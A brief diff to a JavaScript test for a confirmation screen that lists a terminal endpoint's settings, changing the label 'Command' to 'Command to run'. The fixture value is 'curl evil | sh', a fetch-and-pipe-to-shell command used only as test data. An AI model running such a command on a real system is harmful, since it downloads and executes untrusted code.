@@ -44,7 +44,7 @@ describe('a confirmation', () => {
   it('shows what will run, and how', () => {
     expect(terminalOptionsOf(endpoint())).toEqual([]);
     expect(terminalOptionsOf(endpoint({ command: 'curl evil | sh', localEcho: true }))).toEqual([
-      { label: 'Command', value: 'curl evil | sh' },
+      { label: 'Command to run', value: 'curl evil | sh' },
       { label: 'Local echo', value: '✓' },
     ]);
   });
